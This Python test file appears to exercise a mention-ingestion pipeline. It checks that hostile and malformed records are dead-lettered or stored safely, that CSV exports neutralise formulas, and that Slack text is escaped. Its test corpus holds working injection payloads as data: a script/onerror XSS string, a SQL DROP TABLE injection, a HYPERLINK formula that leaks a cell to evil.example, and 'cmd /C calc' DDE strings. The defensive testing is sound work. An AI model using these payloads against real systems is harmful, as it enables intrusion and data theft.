"""A corpus of nasty records through the pipeline: each is dead-lettered with a reason or stored
safely, the pipeline keeps flowing, and CSV exports defuse formulas."""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
from datetime import UTC, datetime
from typing import Any

import httpx
import orjson
import pytest
from prometheus_client import CollectorRegistry
from sqlalchemy import select

from services.alerting.notify.content import escape_slack
from services.api.app import create_app
from services.sentiment.service import serve as serve_sentiment
from shared import serde
from shared.db.engine import transaction
from shared.db.models import MentionRow
from shared.http.keys import create_key
from shared.schemas import DeadLetter
from shared.settings.sentiment import SentimentSettings
from tests.fault_helpers import mention, poll_until
from tests.kafka_helpers import read_topic

MB10 = "crisis " * (10 * 1024 * 1024 // 7)
PUSHED_TEXTS: dict[str, str] = {
    "ten-mb": MB10,
    "nul": "before\x00after \x00 nul bytes",
    "emoji": "🔥🔥🔥💀😡🤬📉" * 20,
    "rtl": "هذا المنتج سيء جدا \u202eevil\u202c שלום עולם",
    "zalgo": "Z" + "\u0301\u0336\u0489" * 3000,
    "html": '<script>alert("x")</script><img src=x onerror=alert(1)> <b>bold</b>',
    "sql": "Robert'); DROP TABLE mentions;-- ' OR '1'='1",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "plus": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
}
PUSHED_TIMES = {"future": "9999-12-31T23:59:59Z", "past": "0001-01-01T00:00:00Z"}


def _item(brand: str, key: str, text: str, created_at: str | None = None) -> dict[str, Any]:
    return {
        "platform": "x",
        "external_id": f"h-{key}",
        "author": f"author-{key}",
        "text": text,
        "created_at": created_at or datetime.now(UTC).isoformat(),
        "brands": [brand],
    }


def _raw_records(brand: str) -> dict[str, bytes]:
    """Records produced straight to mentions.raw, bypassing ingest's validation."""
    good = orjson.loads(serde.dumps(mention(brand, "raw-template")))

    def variant(**changes: Any) -> bytes:
        return orjson.dumps({**good, **changes})

    missing = {k: v for k, v in good.items() if k != "text"}
    return {
        "invalid-json": b'{"platform": "x", "external_id": ',
        "not-an-object": b'"just a string"',
        "schema-v99": variant(schema_version=99, external_id="raw-v99"),
        "missing-text": orjson.dumps({**missing, "external_id": "raw-missing"}),
        "invalid-utf8": b'{"platform": "x", "text": "\xff\xfe\xc3\x28"}',
        "too-long": variant(external_id="raw-long", text="x" * 50_000),
        "nul-direct": variant(external_id="raw-nul", text="nul\u0000inside"),
        "huge-count": variant(external_id="raw-huge", engagement={"likes": 2**64 - 1}),
        "future-direct": variant(external_id="raw-future", created_at="9999-12-31T23:59:00Z"),
        "past-direct": variant(external_id="raw-past", created_at="0001-01-01T00:00:00Z"),
        "empty": b"",
    }


@pytest.fixture
async def pipeline(settings_factory: Any, api_sections: Any) -> Any:
    """The API app (in-process ASGI) and one sentiment worker on this test's topics."""
    api, ingest = api_sections(retention_interval_s=0)
    sentiment: SentimentSettings = settings_factory(SentimentSettings)
    app = create_app(api, ingest, registry=CollectorRegistry())
    stop = asyncio.Event()
    worker = asyncio.create_task(serve_sentiment(sentiment, stop, registry=CollectorRegistry()))
    async with (
        app.router.lifespan_context(app),
        httpx.AsyncClient(
            transport=httpx.ASGITransport(app=app), base_url="http://t", timeout=120
        ) as client,
    ):
        yield client, api, worker
    stop.set()
    with contextlib.suppress(Exception):
        await asyncio.wait_for(worker, timeout=30)


async def _rows(db_engine: Any, brand: str) -> dict[str, MentionRow]:
    async with transaction(db_engine) as session:
        rows = (await session.scalars(select(MentionRow).where(MentionRow.brand == brand))).all()
        return {r.external_id: r for r in rows}


async def test_nasty_corpus_is_stored_safely_or_dead_lettered(
    pipeline: Any, db_engine: Any, unique: str, infra: Any
) -> None:
    client, api, worker = pipeline
    brand = f"hostile-{unique}"
    outcomes: dict[str, str] = {}
    for key, text in PUSHED_TEXTS.items():
        resp = await client.post("/v1/mentions", json=[_item(brand, key, text)])
        assert resp.status_code in (202, 422), (key, resp.status_code, resp.text[:300])
        entry = resp.json()["items"][0]
        assert entry["status"] == "accepted" or entry["reason"], (key, entry)
        outcomes[key] = entry["status"]
    for key, ts in PUSHED_TIMES.items():
        resp = await client.post("/v1/mentions", json=[_item(brand, key, "timestamp", ts)])
        assert resp.status_code in (202, 422), (key, resp.text[:300])
        entry = resp.json()["items"][0]
        assert entry["status"] == "accepted" or entry["reason"], (key, entry)
        outcomes[key] = entry["status"]
    # Whole bodies that are not JSON at all: refused with a reason, nothing half-accepted.
    for body in (b"\xff\xfe not utf-8", b"[{", b"\x00" * 64, b"<html>"):
        resp = await client.post(
            "/v1/mentions", content=body, headers={"Content-Type": "application/json"}
        )
        assert resp.status_code == 422 and resp.json()["detail"], resp.text[:300]

    from shared.kafka import EventProducer

    producer = EventProducer(infra.bootstrap_servers)
    await producer.start()
    try:
        for value in _raw_records(brand).values():
            await producer.send(api.topic_raw, value, key=brand.encode())
        # The canary: a normal mention after the corpus must still be scored.
        canary = mention(brand, "canary", text="Normal mention after the storm.")
        await producer.send(api.topic_raw, serde.dumps(canary), key=brand.encode())
    finally:
        await producer.stop()

    accepted = {f"h-{k}" for k, status in outcomes.items() if status == "accepted"}
    wanted = accepted | {"canary", "raw-future", "raw-past"}
    rows: dict[str, MentionRow] = {}

    async def all_stored() -> bool:
        assert not worker.done(), f"sentiment worker died: {worker.exception()!r}"
        rows.update(await _rows(db_engine, brand))
        return wanted <= set(rows)

    await poll_until(all_stored, timeout_s=120, what=f"{sorted(wanted - set(rows))} stored")
    assert rows["canary"].sentiment_label is not None
    for key in ("html", "sql", "emoji"):
        assert rows[f"h-{key}"].text == PUSHED_TEXTS[key]  # stored as data, byte for byte
    assert "\x00" not in rows["h-nul"].text and rows["h-nul"].text.startswith("before")
    if outcomes["ten-mb"] == "accepted":
        assert rows["h-ten-mb"].truncated and len(rows["h-ten-mb"].text) <= api.max_text_chars
    assert not {"raw-nul", "raw-long", "raw-v99", "raw-huge"} & set(rows)

    rejected = sum(1 for status in outcomes.values() if status != "accepted")
    dlq = await read_topic(
        infra.bootstrap_servers, api.topic_dlq, expected=9 + rejected, timeout_s=60
    )
    letters = [serde.decode(DeadLetter, r.value) for r in dlq]
    assert len([x for x in letters if x.stage == "ingest"]) == rejected
    if outcomes["ten-mb"] != "accepted":  # the 10 MB record is kept, cut to fit one message
        assert any("cut to" in x.reason for x in letters if x.stage == "ingest")
    sentiment_letters = [x for x in letters if x.stage == "sentiment"]
    assert all(x.reason for x in letters)
    # invalid-json, not-an-object, v99, missing-text, invalid-utf8, too-long, empty, nul-direct,
    # huge-count
    assert len(sentiment_letters) == 9, [x.reason for x in sentiment_letters]
    assert any(x.original_b64 for x in sentiment_letters), "non-UTF-8 bytes were not kept"
    reasons = " | ".join(x.reason for x in sentiment_letters)
    assert "invalid JSON" in reasons and "schema_version" in reasons and "text" in reasons

    _, secret = await _viewer_key(db_engine)
    resp = await client.get(
        "/v1/mentions",
        params={"brand": brand, "format": "csv", "limit": 500},
        headers={"X-API-Key": secret},
    )
    assert resp.status_code == 200, resp.text[:300]
    table = list(csv.DictReader(io.StringIO(resp.text)))
    texts = {row["text"] for row in table}
    for key in ("formula", "plus", "at"):
        if outcomes[key] == "accepted":
            assert "'" + PUSHED_TEXTS[key] in texts, f"{key} not defused in CSV"
    for row in table:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell[:50])
    as_json = await client.get(
        "/v1/mentions", params={"brand": brand, "limit": 500}, headers={"X-API-Key": secret}
    )
    assert as_json.headers["content-type"].startswith("application/json")
    assert PUSHED_TEXTS["html"] in {m["text"] for m in as_json.json()["items"]}


async def _viewer_key(db_engine: Any) -> tuple[int, str]:
    async with transaction(db_engine) as session:
        return await create_key(session, "hostile-test", "viewer")


def test_slack_content_is_escaped() -> None:
    text = escape_slack("<!channel> <@U123> & <https://evil.example|click> @here")
    assert "<" not in text and ">" not in text
    assert "<!channel>" not in text and "@here" not in text.replace("@\u200bhere", "")
